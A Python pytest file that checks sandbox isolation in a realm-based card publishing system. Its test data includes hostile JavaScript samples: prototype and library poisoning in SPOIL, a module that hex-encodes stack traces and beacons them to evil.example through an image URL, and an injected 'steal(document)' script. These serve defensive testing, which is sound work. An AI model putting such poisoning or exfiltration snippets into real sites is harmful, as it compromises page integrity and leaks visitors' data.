"""What one realm's code does can change only pages that show it, until that code is mended."""

import json
import re
from typing import Any

import pytest
from django.db import transaction

from realms.bootstrap import sync_base_realm
from realms.drafts import ask_for_index
from realms.models import Realm
from reindex import jobs
from reindex.models import ReindexJob
from tests import make
from tests.rendering import WORK, index_of, work_off
from tests.web import Web

SITE = "http://ada.localhost:4201/"
SOURCE = "http://localhost:4201/ada/site/"
EVE = "http://localhost:4201/eve/lib/"
BOB = "http://localhost:4201/bob/lib/"
Sent = list[tuple[str, Any]]

POST = b"""\
import { Card, Embed, linksTo, string } from "@realm/base";
export class Post extends Card {
  static fields = { title: string(), author: linksTo(() => Card) };
  static isolated = ({ card }) => (
    <p>{[card.title, "by"].join(" ")} <Embed card={card.author} /></p>
  );
}
"""

PERSON = """\
import {{ Card, string }} from "@realm/base";
{spoil}
export class Person extends Card {{
  static fields = {{ name: string() }};
  static embedded = ({{ card }}) => <b>{{card.name}}</b>;
}}
"""

#: Each tries to change the pages that are rendered after it.
SPOIL = {
    "Preact's options": """
        import * as preact from "preact";
        if (preact.options) preact.options.vnode = (vnode) => { vnode.props.title = "EVIL"; };""",
    "the language": 'try { Array.prototype.join = () => "EVIL"; } catch {}',
    "Preact's classes": """
        import { Component } from "preact";
        try { Component.prototype.render = () => "EVIL"; } catch {}""",
    "the card library": 'try { Card.isolated = Card.template = () => "EVIL"; } catch {}',
    "the page's own type": f"""
        import {{ Post }} from "{SITE}post.tsx";
        Post.isolated = () => "EVIL";""",
    "a card of the page's realm": """
        const evil = { stringify: () => "EVIL" };
        queueMicrotask(() => { try { globalThis.JSON = evil; } catch {} });""",
}


def person(spoil: str = "") -> bytes:
    return PERSON.format(spoil=spoil).encode()


def post(title: str, author: str = "") -> bytes:
    return make.card("./post", "Post", {"author": author} if author else None, title=title)


@pytest.fixture
def site(web: Web, owner: Any) -> Realm:
    """Ada's realm: four posts by Eve, one by Bob, four by nobody else."""
    sync_base_realm()
    for url, name in ((EVE, "eve"), (BOB, "bob")):
        card = make.card("./person", "Person", name=name.title())
        make.source(url, make.user(name), {"person.tsx": person(), f"{name}.json": card})
    files = {"post.tsx": POST, "bobs.json": post("bobs", f"{BOB}bob")}
    for at in range(4):
        files[f"eves-{at}.json"] = post(f"eves {at}", f"{EVE}eve")
        files[f"own-{at}.json"] = post(f"own {at}")
    return make.source(SOURCE, owner, files)


def pages() -> dict[str, str]:
    """Everything that the index has of each page."""
    return {
        path: json.dumps([row.html, row.search, row.error], sort_keys=True)
        for path, row in index_of(SITE).items()
    }


def rendered(site: Realm, sent: Sent, *, full: bool = False) -> dict[str, str]:
    """The pages after another publish; `full` if none of them is carried over."""
    published = make.publish(site, SITE)
    if full:
        with transaction.atomic():
            jobs.owe(SITE, published.generation, full=True)
    sent[:] = [WORK]
    work_off(sent)
    return pages()


@pytest.mark.parametrize("what", SPOIL)
def test_a_poisoned_neighbour_changes_only_pages_that_show_it(
    site: Realm, sent: Sent, what: str
) -> None:
    eve = Realm.objects.get(url=EVE)
    clean = rendered(site, sent)
    make.write(eve, person__tsx=person(SPOIL[what]))
    poisoned = rendered(site, sent, full=True)
    assert poisoned.keys() == clean.keys()
    for path in clean:
        if not path.startswith("eves-"):
            assert poisoned[path] == clean[path], (path, poisoned[path])


@pytest.mark.parametrize("what", ["the page's own type", "Preact's options"])
def test_pages_are_as_before_when_the_neighbour_is_mended(
    site: Realm, sent: Sent, what: str
) -> None:
    eve = Realm.objects.get(url=EVE)
    clean = rendered(site, sent)
    make.write(eve, person__tsx=person(SPOIL[what]))
    rendered(site, sent, full=True)
    make.write(eve, person__tsx=person())
    assert rendered(site, sent) == clean


def test_pages_are_as_without_the_neighbour_when_the_links_are_removed(
    site: Realm, sent: Sent
) -> None:
    make.write(Realm.objects.get(url=EVE), person__tsx=person(SPOIL["the page's own type"]))
    rendered(site, sent, full=True)
    make.write_paths(site, {f"eves-{at}.json": post(f"eves {at}") for at in range(4)})
    shown = rendered(site, sent)
    assert all("EVIL" not in page for page in shown.values())


def test_a_row_depends_on_all_that_its_sandbox_was_given(site: Realm, sent: Sent) -> None:
    """Two pages that show Eve share a sandbox; one shows a second type of hers."""
    eve = Realm.objects.get(url=EVE)
    make.write(eve, other__tsx=person().replace(b"Person", b"Other"))
    make.write_paths(eve, {"other.json": make.card("./other", "Other", name="Other")})
    make.write_paths(site, {"eves-0.json": post("eves 0", f"{EVE}other")})
    rendered(site, sent)
    make.write(eve, other__tsx=person("// changed").replace(b"Person", b"Other"))
    rendered(site, sent)
    job = ReindexJob.objects.filter(realm_url=SITE).latest("pk")
    # The four that show Eve; not the five that don't.
    assert (job.rendered, job.carried) == (4, 5)


def test_a_card_that_leads_to_strangers_further_on_is_rendered_with_them(
    site: Realm, sent: Sent
) -> None:
    """Its own link stays in the realm; the card there links to another realm's."""
    near = POST.replace(b"<p>", b"<q>").replace(b"</p>", b"</q>").replace(b"isolated", b"embedded")
    files = {
        "near.tsx": near,
        "near.json": make.card("./near", "Post", {"author": f"{EVE}eve"}, title="near"),
        **{f"far-{at}.json": post(f"far {at}", "./near") for at in range(3)},
    }
    make.write_paths(site, files)
    make.write(Realm.objects.get(url=EVE), person__tsx=person(SPOIL["the page's own type"]))
    shown = rendered(site, sent, full=True)
    assert all("EVIL" not in page for path, page in shown.items() if path.startswith("own-"))
    assert "<b>Eve</b>" in shown["near"]
    assert len(shown) == 13


def test_another_realms_module_is_imported_by_its_url_only(site: Realm, sent: Sent) -> None:
    """What a module will import has to be known before it is given to a sandbox."""
    tries = (
        POST
        + b"""
const url = ["http://localhost:4201", "eve", "lib", "person.tsx"].join("/");
const got = await import(url).then(() => "GOT", (error) => error.message);
Post.isolated = () => <p>{got}</p>;"""
    )
    make.write_paths(site, {"tries.tsx": tries, "tries.json": make.card("./tries", "Post")})
    assert "spelt out in the code" in rendered(site, sent)["tries"]


LEAKS = """\
import { Card } from "@realm/base";
const hex = (text) => [...text].map((each) => each.charCodeAt(0).toString(16)).join("");
const thrown = () => { try { null.x } catch (e) { return e.stack } };
const seen = [import.meta.url, new Error("x").stack, thrown()];
export const leak = hex(seen.join(" "));
export class Leak extends Card {
  static isolated = () => <p>[{leak}]<img src={"https://evil.example/?" + leak} /></p>;
}
"""


def test_no_page_shows_a_pin_or_an_address_however_it_is_written(
    web: Web, site: Realm, owner: Any, sent: Sent
) -> None:
    """By a realm's own module, and by a public library that a private realm imports."""
    lib = Realm.objects.get(url=EVE)
    make.write(lib, leak__tsx=LEAKS.encode())
    uses = f'export {{ Leak }} from "{EVE}leak.tsx";'.encode()
    private = "http://localhost:4201/ada/private/"
    make.source(private, owner, {"uses.tsx": uses, "index.json": make.card("./uses", "Leak")},
                public=False)  # fmt: skip
    make.write_paths(site, {"leak.tsx": LEAKS.encode(), "leak.json": make.card("./leak", "Leak")})
    make.publish(site, SITE)
    work_off(sent)
    ask_for_index(private)
    work_off(sent)
    for url, path, module in ((SITE, "leak", f"{SITE}leak.tsx"), (private, "index", f"{EVE}leak")):
        row = index_of(url)[path]
        assert row.error is None, row.error
        (found,) = re.findall(r"\[([0-9a-f]+)\]", row.html["isolated"])
        told = bytes.fromhex(found).decode()
        assert module in told
        for secret in ("/_at/", "127.0.0.1", "file:", "eyJ"):
            assert secret not in told, told


SCRIPT = """\
import { Card } from "@realm/base";
export class Script extends Card {
  static embedded = () => <script dangerouslySetInnerHTML={{ __html: "steal(document)" }} />;
}
"""


def test_a_strangers_script_does_not_run_at_the_host_of_a_page_that_shows_it(
    web: Web, site: Realm, owner: Any, sent: Sent
) -> None:
    """Scripts of the realm itself, and of other realms of its owner, do."""
    shared = "http://localhost:4201/ada/shared/"
    make.source(shared, owner, {"script.tsx": SCRIPT.encode(),
                                "all.json": make.card("./script", "Script")})  # fmt: skip
    eve = Realm.objects.get(url=EVE)
    make.write_paths(eve, {"script.tsx": SCRIPT.encode(),
                           "all.json": make.card("./script", "Script")})  # fmt: skip
    make.write_paths(site, {
        "eves.json": post("eves", f"{EVE}all"),
        "shared.json": post("shared", f"{shared}all"),
        "own.tsx": SCRIPT.encode(),
        "own.json": make.card("./own", "Script"),
        "404.json": post("not there", f"{EVE}all"),
    })  # fmt: skip
    rendered(site, sent)

    def policy(path: str) -> str:
        page = web.get(SITE + path, "text/html")
        assert page.status == (404 if path == "nowhere" else 200)
        return page.headers.get("content-security-policy", "")

    assert "script-src 'none'" in policy("eves")
    assert "script-src 'none'" in policy("nowhere")
    assert "steal(document)" in web.get(f"{SITE}eves", "text/html").text
    assert policy("shared") == policy("own") == policy("own-1") == ""
